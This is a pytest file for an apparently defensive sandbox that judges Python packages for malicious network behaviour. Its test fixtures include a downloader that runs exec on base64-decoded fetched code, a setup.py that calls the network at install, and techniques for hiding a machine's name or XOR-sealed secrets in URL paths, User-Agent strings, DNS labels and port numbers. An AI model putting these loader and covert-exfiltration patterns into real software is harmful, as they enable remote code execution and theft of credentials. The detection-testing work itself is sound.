"""Hostile reads of the bait stage's LOW (a phase fed the stage that never ran): what a
beacon may put in an ordinary-looking GET that no canary proves, and what must not
make a benign run PS013."""

from __future__ import annotations

import base64
import random
import string
import time
from pathlib import Path

import pytest

from sandbox.judge.profiles import load_profile
from sandbox.judge.report import judge, with_static_opinion
from sandbox.judge.rules import evaluate
from sandbox.judge.static import scan
from sandbox.models import EventKind, NetConnection, Phase, Report, Severity, Verdict
from tests.fixtures.builders import Randomised, build_wheel
from tests.unit.test_accounted import _get, _https, _name
from tests.unit.test_rules import ev, obs
from tests.unit.test_stage import _capture, _events, _stage

HOSTS = ["alex-xps", "orbit-042", "maries-mbp", "dana-thinkpad"]


def _beacons(hostname: str) -> dict[str, tuple[str, tuple[tuple[str, str], ...]]]:
    """GETs (target, extra headers) that name the machine, each shape alone passing
    the accounted tests on main."""
    hx = hostname.encode().hex()
    b32 = base64.b32encode(hostname.encode()).decode().lower().rstrip("=")
    return {
        "user-agent": ("/v2/ping", (("User-Agent", f"python-requests/2.32.3 ({hostname})"),)),
        "hex segment": (f"/v2/ping/{hx[: len(hx) // 2]}/{hx[len(hx) // 2 :]}", ()),
        "base32 header": (
            "/v2/ping",
            (("X-Client", " ".join(b32[i : i + 8] for i in range(0, len(b32), 8))),),
        ),
    }


@pytest.mark.parametrize("shape", ["user-agent", "hex segment", "base32 header"])
def test_a_get_naming_the_machine_is_not_an_accounted_fetch(shape: str) -> None:
    host, stage, hostname = _name(), _stage(), random.choice(HOSTS)
    target, extra = _beacons(hostname)[shape]
    headers = (("Host", host), ("Accept", "*/*"), *extra)
    if not any(k == "User-Agent" for k, _ in extra):
        headers += (("User-Agent", "python-urllib3/2.2.1"),)
    get = _get(host, target=target, headers=headers).model_copy(update={"staged": True})
    fs = evaluate(obs(_events()), network=_capture(host, stage, _https(host, get)), hostname=hostname)
    sev = {f.rule_id: f.severity for f in fs}
    assert sev["PS002"] is Severity.HIGH, (shape, sev)
    # the same fetch from a machine of another name is accounted and, fed, LOW
    other = next(h for h in HOSTS if h != hostname)
    fs = evaluate(obs(_events()), network=_capture(host, stage, _https(host, get)), hostname=other)
    assert {f.rule_id: f.severity for f in fs}["PS002"] is Severity.LOW


def test_writing_the_answer_to_a_file_is_not_running_it() -> None:
    """A logger or cache that stores the response body writes the stage's text (the
    path included) as *data*: only an event whose path or argv names the stage's path
    is PS013."""
    host, stage = _name(), _stage()
    body = f"''':'\\ntest -e {stage}\\nexit 0\\n'''"
    saved = ev(EventKind.FILE_WRITE, "write", seq=7, path="/home/dev/.cache/app/response.txt", data=body)
    fs = evaluate(
        obs(_events(saved)),
        network=_capture(host, stage, _https(host, _get(host).model_copy(update={"staged": True}))),
        hostname="laptop-381",
    )
    sev = {f.rule_id: f.severity for f in fs}
    assert "PS013" not in sev and sev["PS002"] is Severity.LOW, sev


def _fed_report(tmp_path: Path, src: str, setup: str = "") -> tuple[Report, Path]:
    r = Randomised()
    host, stage, name = _name(), _stage(), r.name("dl")
    files = {f"{name}/__init__.py": src.replace("HOST", host)}
    if setup:
        files["setup.py"] = setup.replace("HOST", host)
    whl = build_wheel(tmp_path, name, "1.0", files)
    get = _get(host, target=f"/{r.name('v')}/latest").model_copy(update={"staged": True})
    report = judge(
        obs(_events()),
        target=str(whl),
        started=time.time(),
        image=None,
        staged=None,
        profile=load_profile("default"),
        hostname="laptop-381",
        network=_capture(host, stage, _https(host, get)),
    )
    return report, whl


def test_a_downloader_that_decodes_its_answer_is_not_cleared_by_the_bait(tmp_path: Path) -> None:
    """exec(b64decode(urlopen(u).read())) fails on the bait and never runs it: the run
    alone looks like a library that parsed a data file (every finding LOW, clean).  Its
    sources match the static decode-then-exec rules: the bait's word does not hold."""
    decode = random.choice(["base64.b64decode(data)", "zlib.decompress(base64.b64decode(data))"])
    src = (
        "import base64, zlib, urllib.request\n"
        "data = urllib.request.urlopen('https://HOST/v1/latest').read()\n"
        f"exec({decode})\n"
    )
    report, whl = _fed_report(tmp_path, src)
    assert report.verdict is Verdict.CLEAN  # what the run alone shows
    judged = with_static_opinion(report, whl, load_profile("default"))
    sev = {f.rule_id: f.severity for f in judged.findings}
    assert judged.verdict is Verdict.SUSPICIOUS, sev
    assert sev["PS002"] is Severity.MEDIUM and sev["PS040"] is Severity.MEDIUM
    # a library that parses what it downloads keeps the bait's LOW
    src = "import json, urllib.request\nPRICES = json.loads(urllib.request.urlopen('https://HOST/p.json').read())\n"
    (tmp_path / "lib").mkdir()
    report, whl = _fed_report(tmp_path / "lib", src)
    assert with_static_opinion(report, whl, load_profile("default")).verdict is Verdict.CLEAN
    # a static match that says nothing about decoding an answer (litellm's CLI matched
    # the keylogging rule: suspicious on main) does not undo the bait's word either
    src = (
        "import json, urllib.request\nfrom pynput import keyboard\n"
        "L = keyboard.Listener(on_press=print)\n"
        "PRICES = json.loads(urllib.request.urlopen('https://HOST/p.json').read())\n"
    )
    (tmp_path / "keys").mkdir()
    report, whl = _fed_report(tmp_path / "keys", src)
    assert [h.rule for h in scan(whl)] == ["threat_runtime_keylogging"]
    assert with_static_opinion(report, whl, load_profile("default")).verdict is Verdict.CLEAN
    # a setup.py that reaches the network at install (a real release that only GETs and
    # reads .env went clean on the narrowed list) keeps its findings MEDIUM
    setup = "import requests\nrequests.get('https://HOST/ping')\nfrom setuptools import setup\nsetup()\n"
    (tmp_path / "setup").mkdir()
    report, whl = _fed_report(tmp_path / "setup", "X = 1\n", setup)
    assert "threat_setup_network_in_install" in {h.rule for h in scan(whl)}
    assert with_static_opinion(report, whl, load_profile("default")).verdict is Verdict.SUSPICIOUS


def test_a_name_carrying_the_machine_in_its_labels_is_not_ordinary() -> None:
    hostname = random.choice(HOSTS)
    hx = hostname.encode().hex()
    host = ".".join(hx[i : i + 10] for i in range(0, len(hx), 10)) + "." + _name()
    # HTTP/1.0 needs no Host header: the name is the DNS question's and the TLS hello's
    get = _get(host, headers=(("Accept", "*/*"),)).model_copy(update={"staged": True, "version": "HTTP/1.0"})
    fs = evaluate(obs(_events()), network=_capture(host, _stage(), _https(host, get)), hostname=hostname)
    assert {f.rule_id: f.severity for f in fs}["PS002"] is Severity.HIGH
    other = next(h for h in HOSTS if h != hostname)
    fs = evaluate(obs(_events()), network=_capture(host, _stage(), _https(host, get)), hostname=other)
    # another machine's name: the run read .env, but its labels carry fewer data-shaped
    # characters than FED_BUDGET (no planted key fits there): the fed, LOW fetch
    assert {f.rule_id: f.severity for f in fs}["PS002"] is Severity.LOW


def _sealed(n: int) -> str:
    """*n* secret bytes as a stealer sends them: XORed with its own key, then hex (no
    canary encoding finds them)."""
    secret = "".join(random.choices(string.ascii_letters + string.digits, k=n)).encode()
    key = random.randbytes(8)
    return bytes(b ^ key[i % 8] for i, b in enumerate(secret)).hex()


@pytest.mark.parametrize(
    ("channel", "size", "want"),
    [
        ("path", 80, Severity.HIGH),  # the head of the credentials file (12 segments): not accounted
        ("path", 40, Severity.MEDIUM),  # one 40-character key: accounted, never LOW
        ("user-agent", 40, Severity.MEDIUM),
        ("labels", 24, Severity.MEDIUM),
        ("ports", 12, Severity.MEDIUM),  # 2 bytes a port, connections that sent nothing
    ],
)
def test_a_sealed_secret_in_ordinary_looking_free_text_is_never_low(
    channel: str, size: int, want: Severity
) -> None:
    """A stealer that reads client configuration and sends it encrypted, hex cut into
    15-character runs (none encoded-looking), in the path, a User-Agent comment or the
    host's labels, to a name its resolver answered, and never runs the bait: on main
    every shape was an accounted, fed fetch, LOW, and the run clean."""
    base, stage = _name(), _stage()
    blob = _sealed(size)
    runs = [blob[i : i + 15] for i in range(0, len(blob), 15)]
    host, target, ua = base, "/assets/app.css", "python-requests/2.32.3"
    if channel == "path":
        target = "/assets/" + "/".join(runs)
    elif channel == "user-agent":
        ua += " (" + " ".join(runs) + ")"
    elif channel == "labels":  # labels of 12+ characters with digits are not ordinary: 10 each
        host = ".".join(blob[i : i + 10] for i in range(0, len(blob), 10)) + "." + base
    headers = (("Host", host), ("Accept", "*/*"), ("User-Agent", ua))
    get = _get(host, target=target, headers=headers).model_copy(update={"staged": True})
    capture = _capture(host, stage, _https(host, get))
    if channel == "ports":
        ports = [int(blob[i : i + 4], 16) or 1 for i in range(0, len(blob), 4)]
        knocks = tuple(
            NetConnection(
                phase=Phase.IMPORT, time=4.0, destination=f"198.51.100.7:{p}", host=host, protocol="empty"
            )
            for p in ports
        )
        capture = capture.model_copy(update={"connections": capture.connections + knocks})
    fs = evaluate(obs(_events()), network=capture, hostname="orbit-042")
    sev = {f.rule_id: f.severity for f in fs}
    assert sev["PS002"] is want and sev["PS001"] is want, (channel, sev)
    # the same fetch without the sealed text is still the fed, LOW one
    plain = _get(base, target="/assets/app.css").model_copy(update={"staged": True})
    fs = evaluate(obs(_events()), network=_capture(base, stage, _https(base, plain)), hostname="orbit-042")
    assert {f.rule_id: f.severity for f in fs}["PS002"] is Severity.LOW


def test_a_library_reading_env_then_fetching_a_worded_data_file_stays_low() -> None:
    """The shape of a top-100 library's import (it loads ``.env``, then GETs a JSON of
    model prices from a raw file host under a long worded path, with a client's usual
    headers): a path of words is no room for a secret, so the budget leaves it the fed,
    LOW fetch (counted by characters alone it was 70 past the budget: suspicious)."""
    host = "raw." + _name()
    target = "/" + "/".join(
        [
            random.choice(["BerriAI", "OpenOrg", "DataLab"]),
            "toolkit",
            "main",
            "model_prices_and_context_window.json",
        ]
    )
    headers = (
        ("Host", host),
        ("User-Agent", "python-httpx/0.28.1"),
        ("Accept", "*/*"),
        ("Accept-Encoding", "gzip, deflate"),
        ("Connection", "keep-alive"),
    )
    get = _get(host, target=target, headers=headers).model_copy(update={"staged": True})
    fs = evaluate(obs(_events()), network=_capture(host, _stage(), _https(host, get)), hostname="orbit-042")
    sev = {f.rule_id: f.severity for f in fs}
    assert sev["PS002"] is Severity.LOW and sev["PS001"] is Severity.LOW, sev


def test_a_sealed_environment_secret_in_a_fed_fetch_is_never_low() -> None:
    """redteam6's open case: the honeytokens in the environment are read with no
    syscall, so no credential read shows; a stealer XORs ``AWS_SECRET_ACCESS_KEY`` with
    its own key and GETs the hex in 15-character segments, ignoring the bait. Without a
    read the budget did not apply: PS002/PS011 LOW, clean.  A fetch carrying more
    data-shaped text than FED_BUDGET is never LOW, read or not."""
    events = [e for e in _events() if e.kind is not EventKind.FILE_READ]
    host, stage = _name(), _stage()
    blob = _sealed(40)
    target = "/v1/" + "/".join(blob[i : i + 15] for i in range(0, len(blob), 15))
    get = _get(host, target=target).model_copy(update={"staged": True})
    fs = evaluate(obs(events), network=_capture(host, stage, _https(host, get)), hostname="orbit-042")
    sev = {f.rule_id: f.severity for f in fs}
    assert "PS001" not in sev and sev["PS002"] is Severity.MEDIUM, sev
    # a worded data file fetched the same way stays the fed, LOW fetch
    plain = _get(host, target="/v1/assets/model_prices.json").model_copy(update={"staged": True})
    fs = evaluate(obs(events), network=_capture(host, stage, _https(host, plain)), hostname="orbit-042")
    assert {f.rule_id: f.severity for f in fs}["PS002"] is Severity.LOW
